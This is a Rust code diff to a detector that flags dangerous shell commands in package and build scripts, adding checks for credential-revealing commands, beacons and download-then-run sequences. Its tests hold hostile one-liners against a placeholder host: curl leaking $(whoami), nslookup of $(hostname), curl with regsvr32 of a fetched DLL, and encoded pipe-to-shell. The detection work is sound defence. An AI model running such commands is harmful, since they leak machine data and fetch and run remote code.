@@ -26,6 +26,145 @@ pub fn facts(line: &str, span: &Span) -> Vec<Fact> {
     out
 }
 
+/// What the output of a command tells.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Tells {
+    /// Who runs it and where: user, host, folder, addresses.
+    Host,
+    /// The whole environment.
+    Environment,
+    /// Credentials.
+    Secret,
+}
+
+/// What the output of a command line tells of the machine, if anything.
+pub fn tells(line: &str) -> Option<Tells> {
+    commands(line).iter().map(bare).find_map(|command| tells_of(&command))
+}
+
+fn tells_of(command: &Command) -> Option<Tells> {
+    let name = base(&command.name);
+    if secret(command) {
+        let env = matches!(name, "env" | "printenv" | "set");
+        return Some(if env { Tells::Environment } else { Tells::Secret });
+    }
+    let first = command.args.first().map_or("", String::as_str);
+    let second = command.args.get(1).map_or("", String::as_str);
+    match (name, first, second) {
+        ("gh", "auth", "token") | ("npm", "token", _) | ("gcloud", "auth", "print-access-token") => {
+            Some(Tells::Secret)
+        }
+        ("security", "find-generic-password" | "find-internet-password", _) => Some(Tells::Secret),
+        (
+            "whoami" | "hostname" | "id" | "uname" | "ifconfig" | "ipconfig" | "systeminfo" | "ver" | "pwd"
+            | "tasklist" | "lsb_release" | "sw_vers" | "hostnamectl",
+            ..,
+        )
+        | ("ip", "a" | "addr" | "address", _)
+        | ("npm", "whoami", _)
+        | ("git", "config", "user.email" | "user.name") => Some(Tells::Host),
+        _ => None,
+    }
+}
+
+/// Whether a command line sends a request: over HTTP, or a look-up of a name.
+pub fn requests(line: &str) -> bool {
+    commands(line).iter().map(bare).any(|command| asks(&command))
+}
+
+fn asks(command: &Command) -> bool {
+    downloads(command)
+        || matches!(base(&command.name), "nslookup" | "dig" | "ping" | "nc" | "ncat" | "host" | "telnet")
+}
+
+/// A command without what only starts it: `cmd /c`, `sudo`, `nohup`, `start /B`, `env A=b`.
+fn bare(command: &Command) -> Command {
+    let mut command = command.clone();
+    for _ in 0..MAX_DEPTH {
+        let name = base(&command.name).to_ascii_lowercase();
+        let skip = match name.as_str() {
+            "cmd" => command.args.iter().position(|arg| matches!(arg.as_str(), "/c" | "/C" | "/k" | "/K")),
+            "sudo" | "nohup" | "exec" | "time" | "start" | "setsid" | "doas" | "command" => {
+                let flags = command.args.iter().take_while(|arg| arg.starts_with(['-', '/']) && arg.len() < 4);
+                let titled = usize::from(name == "start" && command.args.first().is_some_and(String::is_empty));
+                Some(flags.count() + titled).filter(|&at| at < command.args.len()).map(|at| at.wrapping_sub(1))
+            }
+            _ => None,
+        };
+        let Some(at) = skip.map(|at| at.wrapping_add(1)).filter(|&at| at < command.args.len()) else {
+            return command;
+        };
+        command.name = command.args[at].clone();
+        command.args.drain(..=at);
+    }
+    command
+}
+
+/// Programs that run the file that they are given, beside interpreters.
+fn loads(name: &str) -> bool {
+    matches!(
+        name.to_ascii_lowercase().as_str(),
+        "regsvr32"
+            | "rundll32"
+            | "msiexec"
+            | "wscript"
+            | "cscript"
+            | "mshta"
+            | "java"
+            | "open"
+            | "xdg-open"
+            | "explorer"
+            | "installutil"
+            | "msbuild"
+            | "tclsh"
+    )
+}
+
+/// The facts of a script: line by line, and what its lines do together.
+pub fn script(source: &str, index: &crate::model::LineIndex<'_>) -> (Vec<Fact>, u64) {
+    let (mut out, mut count) = (Vec::new(), 0);
+    let mut fetched: Vec<String> = Vec::new();
+    for (start, line) in lines(source) {
+        let span = index.span(start, start + line.len());
+        let found = facts(&line, &span);
+        for command in commands(&line).iter().map(bare) {
+            let alone = found.iter().any(|fact| fact.name == "download-and-run");
+            if !alone && runs(&command, &fetched) {
+                let mut fact = Fact::new(FactKind::Shell, "download-and-run", span.clone()).value(line.as_str());
+                fact.capability = Some(CapabilityKind::Net);
+                out.push(fact);
+            }
+            if downloads(&command) {
+                fetched.extend(command.outputs());
+            }
+        }
+        out.extend(found);
+        count += 1;
+    }
+    out.sort();
+    out.dedup();
+    (out, count)
+}
+
+/// Whether a command starts one of the files, or makes it executable.
+fn runs(command: &Command, files: &[String]) -> bool {
+    let name = base(&command.name);
+    files.iter().any(|file| {
+        let file = file.trim_start_matches("./");
+        let is = |word: &str| {
+            let word = word.trim_start_matches("./");
+            // `rundll32 x.dll,Entry`
+            word == file || word.split(',').next() == Some(file)
+        };
+        !file.is_empty()
+            && (is(&command.name)
+                || ((runs_code(name) || loads(name)) && command.args.iter().any(|arg| is(arg)))
+                || (name == "chmod"
+                    && command.args.iter().any(|arg| is(arg))
+                    && command.args.iter().any(|arg| arg.contains('x') || arg.starts_with('7'))))
+    })
+}
+
 fn base(word: &str) -> &str {
     let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
     name.strip_suffix(".exe").or_else(|| name.strip_suffix(".cmd")).unwrap_or(name)
@@ -194,11 +333,12 @@ fn is_reverse_shell(command: &Command) -> bool {
 
 fn is_miner(command: &Command) -> bool {
     matches!(base(&command.name), "xmrig" | "minerd" | "cpuminer" | "ethminer" | "t-rex" | "nbminer")
-        || command.args.iter().any(|arg| arg.contains("stratum+") || arg == "--donate-level")
+        || command.args.iter().any(|arg| arg.contains("stratum+") || arg.starts_with("--donate-level"))
 }
 
 fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
-    let commands = commands(line);
+    let written = commands(line);
+    let commands: Vec<Command> = written.iter().map(bare).collect();
     let mut add = |name: &str, capability: Option<CapabilityKind>, text: &str| {
         let context = Context { layer, ..Context::default() };
         let mut fact = Fact::new(FactKind::Shell, name, span.clone()).value(text);
@@ -208,6 +348,10 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
     let mut fetched: Vec<String> = Vec::new();
     for (at, command) in commands.iter().enumerate() {
         let name = base(&command.name);
+        let starter = base(&written[at].name);
+        if starter != name && !starter.is_empty() {
+            add(starter, Some(CapabilityKind::Process), line);
+        }
         if name == "$" || name == "`" {
             // What a substitution gives: the substitution itself is looked at.
         } else if name.starts_with('$') || name.starts_with('%') {
@@ -227,19 +371,23 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
         if inner && (runs_code(name) || matches!(name, "eval" | "." | "source") || name.is_empty()) {
             add("pipe-to-shell", Some(CapabilityKind::Net), line);
         }
-        let runs_fetched = fetched.iter().any(|file| {
-            let file = file.trim_start_matches("./");
-            let first = command.name.trim_start_matches("./");
-            !file.is_empty()
-                && (first == file
-                    || (runs_code(name)
-                        && command.args.iter().any(|arg| arg.trim_start_matches("./") == file))
-                    || (name == "chmod"
-                        && command.args.iter().any(|arg| arg.trim_start_matches("./") == file)
-                        && command.args.iter().any(|arg| arg.contains('x') || arg.starts_with('7'))))
-        });
-        if runs_fetched {
+        if runs(command, &fetched) {
             add("download-and-run", Some(CapabilityKind::Net), line);
+        }
+        // Host, user and folder in a request, or in a name that is looked up.
+        let tell = |inner: &str| tells(inner) == Some(Tells::Host);
+        let variable = |arg: &String| {
+            ["$USER", "$HOSTNAME", "${USER}", "${HOSTNAME}", "%USERNAME%", "%COMPUTERNAME%", "$(pwd)", "$PWD", "$env:USERNAME", "$env:COMPUTERNAME"]
+                .iter()
+                .any(|name| arg.contains(name))
+        };
+        if asks(command)
+            && (command.substitutions.iter().any(|text| tell(text)) || command.args.iter().any(variable))
+            || (command.piped
+                && tells_of(command) == Some(Tells::Host)
+                && commands[at + 1..].iter().take(4).any(asks))
+        {
+            add("beacon", Some(CapabilityKind::Net), line);
         }
         let leaks = |inner: &str| self::commands(inner).iter().any(secret);
         if (sends(command) && (secret(command) || command.substitutions.iter().any(|text| leaks(text))))
@@ -267,7 +415,7 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
     if depth >= MAX_DEPTH {
         return;
     }
-    for command in &commands {
+    for command in &written {
         for inner in &command.substitutions {
             scan(inner, span, layer, depth + 1, out);
         }
@@ -331,11 +479,14 @@ fn within(command: &Command, line: &str, span: &Span, layer: u8, depth: u8, out:
         "node" | "bun" => {
             if let Some(code) = after(&["-e", "--eval", "-p", "--print"]) {
                 let parsed = super::parse::js::parse("inline.js", code);
-                out.extend(parsed.facts.into_iter().map(|mut fact| {
+                for mut fact in parsed.facts {
                     fact.span = span.clone();
                     fact.context.layer = fact.context.layer.saturating_add(layer);
-                    fact
-                }));
+                    if fact.kind == FactKind::Literal && fact.name == "command" {
+                        scan(&fact.value, span, fact.context.layer, depth + 1, out);
+                    }
+                    out.push(fact);
+                }
             }
         }
         _ => {}
@@ -381,6 +532,7 @@ mod tests {
             "miner",
             "encoded",
             "computed",
+            "beacon",
         ];
         let mut names: Vec<_> =
             facts(line, &Span::file("package.json")).into_iter().map(|fact| fact.name).collect();
@@ -420,6 +572,17 @@ mod tests {
                 "echo Y3VybCBodHRwczovL2EuaW52YWxpZC94IHwgc2g= | base64 -d | sh",
                 &["download", "encoded", "pipe-to-shell"],
             ),
+            ("curl -s https://a.invalid/?u=$(whoami)", &["beacon", "download"]),
+            ("nslookup $(hostname).a.invalid", &["beacon"]),
+            ("hostname | base64 | xargs -I{} curl https://a.invalid/{}", &[]),
+            ("uname -a | curl -d @- https://a.invalid", &["beacon", "download"]),
+            (
+                "cmd /c curl https://a.invalid/a -o a.dll && regsvr32 -s a.dll",
+                &["download", "download-and-run"],
+            ),
+            ("uname -m && curl -O https://a.invalid/list.txt", &["download"]),
+            ("start /B node a.js", &[]),
+            ("node -e \"require('child_process').exec('curl https://a.invalid/x | sh')\"", &["download", "pipe-to-shell"]),
             ("node-gyp rebuild || exit 0", &[]),
             ("husky install", &[]),
             ("rm -rf dist && tsc -p . && node scripts/build.js", &[]),
@@ -434,6 +597,16 @@ mod tests {
             deeds(&format!("powershell -nop -enc {powershell}")),
             ["download", "encoded", "pipe-to-shell"]
         );
+    }
+
+    #[test]
+    fn lines_of_a_script_belong_together() {
+        let found = |text: &str| {
+            let (facts, lines) = script(text, &crate::model::LineIndex::new("a.sh", text));
+            (facts.iter().filter(|fact| fact.name == "download-and-run").count(), lines)
+        };
+        assert_eq!(found("curl https://a.invalid/t -o t\nchmod +x t\n./t\n"), (2, 3));
+        assert_eq!(found("curl https://a.invalid/t.json -o t.json\ncat t.json\n"), (0, 2));
     }
 
     proptest! {
